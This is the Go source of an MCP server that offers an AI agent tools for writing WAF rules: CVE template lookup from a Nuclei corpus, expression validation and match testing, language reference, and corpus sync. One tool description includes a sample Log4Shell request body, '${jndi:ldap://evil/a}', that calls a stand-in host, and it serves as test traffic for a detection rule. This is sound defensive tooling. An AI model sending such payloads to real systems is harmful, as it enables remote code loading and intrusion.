package mcpserver

import (
	"context"
	"fmt"
	"strings"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/gen0sec/wafrules-mcp/pkg/engine"
)

// corpusSourceName identifies the template corpus in fetch results,
// matching the source string rule consumers already key on.
const corpusSourceName = "Nuclei Open Source (GitHub)"

// registerTools adds all rule-engineering tools to the MCP server.
func (s *Server) registerTools() {
	s.addFetchCVETool()
	s.addValidateExpressionTool()
	s.addValidateWithTestsTool()
	s.addGetWAFContextTool()
	s.addSyncStatusTool()
	s.addRefreshTemplatesTool()
}

// ═══════════════════════════════════════════════════════════════════════════
// fetch_cve_vulnerability_template — CVE template lookup
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addFetchCVETool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "fetch_cve_vulnerability_template",
			Title: "Fetch CVE vulnerability template",
			Description: `Retrieve the vulnerability template for a CVE from the local template corpus.

The template packages what is known about the exploit: metadata, severity, description, references, classification, and the characteristic request patterns (paths, payloads, matchers) that security systems or LLMs use to derive defensive controls such as WAF rules.

USE THIS TOOL WHEN:
• The user wants protection against a specific CVE
• You need the exploit's request shape before drafting a rule
• The user asks what a CVE looks like on the wire

DO NOT USE THIS TOOL WHEN:
• The user gave a natural language description with no CVE — go straight to get_waf_context
• You want to know whether the corpus is current — use get_template_sync_status

This is a READ-ONLY local lookup against the indexed corpus. Zero network requests.

EXAMPLE INPUTS:
• {"cve_id": "CVE-2021-44228"}
• {"cve_id": "cve-2023-4863"} (case and leading zeros are normalized)

Returns: success flag, canonical cve_id, source, full template content (YAML), and metadata (file path, corpus version, severity). A CVE absent from the corpus returns success=false with the sources checked.`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"cve_id": map[string]any{
						"type":        "string",
						"description": "The CVE identifier, e.g. CVE-2021-44228. Case-insensitive; leading zeros in the sequence number are ignored.",
					},
				},
				"required": []string{"cve_id"},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(false),
				Title:          "Fetch CVE vulnerability template",
			},
		},
		s.logged("fetch_cve_vulnerability_template", s.handleFetchCVE),
	)
}

type fetchCVEArgs struct {
	CVEID string `json:"cve_id"`
}

func (s *Server) handleFetchCVE(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args fetchCVEArgs
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected {\"cve_id\": \"CVE-2021-44228\"}.", err)), nil
	}
	if strings.TrimSpace(args.CVEID) == "" {
		return errorResult("'cve_id' is required, e.g. {\"cve_id\": \"CVE-2021-44228\"}."), nil
	}
	if s.engine == nil {
		return errorResult("template engine not configured"), nil
	}

	res := s.engine.Resolve(args.CVEID)
	switch res.Status {
	case engine.ResolveInvalid:
		return errorResult(fmt.Sprintf("invalid CVE identifier %q: expected the form CVE-YYYY-NNNN (year, then a sequence of at least four digits)", args.CVEID)), nil

	case engine.ResolveNotFound:
		detail := "no template indexed for this CVE"
		if s.engine.Index() == nil {
			detail = "template index not built yet; check get_template_sync_status"
		}
		return jsonResult(map[string]any{
			"success":         false,
			"error":           fmt.Sprintf("CVE %s not found in any source", res.CVEID),
			"cve_id":          res.CVEID,
			"sources_checked": []string{corpusSourceName},
			"details":         []string{corpusSourceName + ": " + detail},
		})
	}

	version := ""
	if ix := s.engine.Index(); ix != nil {
		version = ix.Version()
	}
	primary := res.Records[0]
	metadata := map[string]any{
		"file_path":   primary.Path,
		"version":     version,
		"template_id": primary.TemplateID,
		"name":        primary.Name,
		"severity":    primary.Severity,
		"protocols":   primary.Protocols,
	}
	if len(res.Records) > 1 {
		extra := make([]string, 0, len(res.Records)-1)
		for _, rec := range res.Records[1:] {
			extra = append(extra, rec.Path)
		}
		metadata["matches"] = len(res.Records)
		metadata["additional_templates"] = extra
	}

	return jsonResult(map[string]any{
		"success":  true,
		"cve_id":   res.CVEID,
		"source":   corpusSourceName,
		"content":  primary.Content,
		"metadata": metadata,
	})
}

// ═══════════════════════════════════════════════════════════════════════════
// validate_waf_expression — Syntax check with optional match test
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addValidateExpressionTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "validate_waf_expression",
			Title: "Validate WAF expression",
			Description: `Validate a WAF rule expression against the validation service. Optionally test it against custom test data.

USE THIS TOOL WHEN:
• You drafted an expression and must confirm it parses before presenting it
• The user pasted an expression and asks whether it is valid
• You fixed a reported error_message and need to re-check

ALWAYS validate before presenting any expression as final.

EXAMPLE INPUTS:
• Syntax only: {"expression": "(http.request.path contains \"/admin\")"}
• With a match test: {"expression": "ip.src in {10.0.0.1 10.0.0.2}", "test": {"ip.src": "10.0.0.1"}}

Returns: valid (boolean), error_message (string, when invalid), and — when test data was provided — matched (boolean) and test_error (string, when the test itself failed).`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"expression": map[string]any{
						"type":        "string",
						"description": "The WAF expression to validate.",
					},
					"test": map[string]any{
						"type":                 "object",
						"description":          "Optional test data: dotted request fields such as http.request.method, http.request.path, ip.src. When provided, the expression is also evaluated against this request.",
						"additionalProperties": true,
					},
				},
				"required": []string{"expression"},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(true),
				Title:          "Validate WAF expression",
			},
		},
		s.logged("validate_waf_expression", s.handleValidateExpression),
	)
}

type validateArgs struct {
	Expression string         `json:"expression"`
	Test       map[string]any `json:"test"`
}

func (s *Server) handleValidateExpression(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args validateArgs
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected {\"expression\": \"...\"} with an optional \"test\" object.", err)), nil
	}
	if strings.TrimSpace(args.Expression) == "" {
		return errorResult("'expression' is required."), nil
	}
	if s.validator == nil {
		return errorResult("validation service not configured"), nil
	}

	res, err := s.validator.Validate(ctx, args.Expression, args.Test)
	if err != nil {
		return errorResult(fmt.Sprintf("validation API request failed: %v", err)), nil
	}

	out := map[string]any{"valid": res.Valid}
	if !res.Valid {
		out["error_message"] = res.ErrorMessage
	}
	if res.TestRan {
		out["matched"] = res.Matched
		if res.TestError != "" {
			out["test_error"] = res.TestError
		}
	}
	return jsonResult(out)
}

// ═══════════════════════════════════════════════════════════════════════════
// validate_waf_expression_with_tests — Validation with a full test request
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addValidateWithTestsTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "validate_waf_expression_with_tests",
			Title: "Validate WAF expression with tests",
			Description: `Validate a WAF rule expression and test it against an HTTP request example. Match evaluation always runs; without test data the service uses its default mock request.

USE THIS TOOL WHEN:
• A rule passed validate_waf_expression and you want to confirm it matches representative traffic
• The user supplied an example request the rule must (or must not) catch

TEST OBJECT FIELDS (all optional, dotted keys):
http.request.method, http.request.scheme, http.request.host, http.request.port (number), http.request.path, http.request.uri, http.request.query, http.request.user_agent, http.request.content_type, http.request.content_length (number), http.request.body, http.request.body_sha256, http.request.headers (object), ip.src, ip.src.country, ip.src.asn (number), ip.src.asn_org, ip.src.asn_country, threat.score (number), threat.advice.

When a body is given without its hash and length, both are computed automatically; supplied values are kept.

EXAMPLE INPUT:
{"rule": "(http.request.method eq \"POST\") and (http.request.body contains \"jndi:ldap\")", "test": {"http.request.method": "POST", "http.request.path": "/api/login", "http.request.body": "${jndi:ldap://evil/a}"}}

Returns: valid (boolean), matched (boolean), error (string, when the expression is invalid), test_error (string, when the test itself failed).`,
			InputSchema: map[string]any{
				"type": "object",
				"properties": map[string]any{
					"rule": map[string]any{
						"type":        "string",
						"description": "The WAF rule expression to validate and test.",
					},
					"test": map[string]any{
						"type":                 "object",
						"description":          "Test request as dotted fields. Omit to test against the service's default mock request.",
						"additionalProperties": true,
					},
				},
				"required": []string{"rule"},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(true),
				Title:          "Validate WAF expression with tests",
			},
		},
		s.logged("validate_waf_expression_with_tests", s.handleValidateWithTests),
	)
}

type validateWithTestsArgs struct {
	Rule string         `json:"rule"`
	Test map[string]any `json:"test"`
}

func (s *Server) handleValidateWithTests(ctx context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	var args validateWithTestsArgs
	if err := parseArgs(req, &args); err != nil {
		return errorResult(fmt.Sprintf("invalid arguments: %v. Expected {\"rule\": \"...\"} with an optional \"test\" object.", err)), nil
	}
	if strings.TrimSpace(args.Rule) == "" {
		return errorResult("'rule' is required."), nil
	}
	if s.validator == nil {
		return errorResult("validation service not configured"), nil
	}

	res, err := s.validator.Test(ctx, args.Rule, args.Test)
	if err != nil {
		return errorResult(fmt.Sprintf("validation API request failed: %v", err)), nil
	}

	out := map[string]any{
		"valid":   res.Valid,
		"matched": res.Matched,
	}
	if !res.Valid {
		out["error"] = res.ErrorMessage
	}
	if res.TestError != "" {
		out["test_error"] = res.TestError
	}
	return jsonResult(out)
}

// ═══════════════════════════════════════════════════════════════════════════
// get_waf_context — Rules-language reference bundle
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addGetWAFContextTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "get_waf_context",
			Title: "Get WAF context",
			Description: `Fetch the rules-language reference: actions, expressions, fields, functions, operators, and values.

USE THIS TOOL WHEN:
• Starting any rule-writing task — read this BEFORE drafting an expression
• You are unsure whether a field, operator, or function exists

The same documents are available individually as wafcontext:// resources; this tool returns all six at once.

Takes no arguments. READ-ONLY, local, instant.`,
			InputSchema: map[string]any{
				"type":       "object",
				"properties": map[string]any{},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(false),
				Title:          "Get WAF context",
			},
		},
		s.logged("get_waf_context", s.handleGetWAFContext),
	)
}

func (s *Server) handleGetWAFContext(_ context.Context, _ *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	return jsonResult(s.contexts.All())
}

// ═══════════════════════════════════════════════════════════════════════════
// get_template_sync_status — Corpus and index diagnostics
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addSyncStatusTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "get_template_sync_status",
			Title: "Get template sync status",
			Description: `Report the state of the template corpus: scheduler state, mirror version, index size, last sync time and outcome.

USE THIS TOOL WHEN:
• fetch_cve_vulnerability_template returned not found and you want to know whether the index is stale or still building
• The user asks how current the vulnerability data is
• After refresh_templates, to observe the refresh completing

Takes no arguments. READ-ONLY, local, instant.

Returns: state (idle/syncing/indexing), auto_update, target_version, mirror_version, index_version, index_cves, index_templates, last_sync_at, last_outcome, last_error, cycles.`,
			InputSchema: map[string]any{
				"type":       "object",
				"properties": map[string]any{},
			},
			Annotations: &mcp.ToolAnnotations{
				ReadOnlyHint:   true,
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(false),
				Title:          "Get template sync status",
			},
		},
		s.logged("get_template_sync_status", s.handleSyncStatus),
	)
}

func (s *Server) handleSyncStatus(_ context.Context, _ *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	if s.engine == nil {
		return errorResult("template engine not configured"), nil
	}
	return jsonResult(s.engine.Status())
}

// ═══════════════════════════════════════════════════════════════════════════
// refresh_templates — Manual refresh trigger
// ═══════════════════════════════════════════════════════════════════════════

func (s *Server) addRefreshTemplatesTool() {
	s.mcp.AddTool(
		&mcp.Tool{
			Name:  "refresh_templates",
			Title: "Refresh templates",
			Description: `Request an immediate sync-and-reindex cycle of the template corpus.

The request is asynchronous: this tool returns as soon as the refresh is queued. Requests arriving while a refresh is already pending coalesce into that one pending run. Poll get_template_sync_status to observe completion.

USE THIS TOOL WHEN:
• A recently published CVE is missing from the corpus
• The user explicitly asks to update the templates

Takes no arguments.

Returns: accepted (boolean) — false means a refresh was already pending and this request merged into it.`,
			InputSchema: map[string]any{
				"type":       "object",
				"properties": map[string]any{},
			},
			Annotations: &mcp.ToolAnnotations{
				IdempotentHint: true,
				OpenWorldHint:  boolPtr(true),
				Title:          "Refresh templates",
			},
		},
		s.logged("refresh_templates", s.handleRefreshTemplates),
	)
}

func (s *Server) handleRefreshTemplates(_ context.Context, _ *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
	if s.engine == nil {
		return errorResult("template engine not configured"), nil
	}

	accepted := s.engine.TriggerRefresh()
	detail := "refresh scheduled"
	if !accepted {
		detail = "a refresh is already pending; this request was coalesced into it"
	}
	return jsonResult(map[string]any{
		"accepted": accepted,
		"detail":   detail,
	})
}
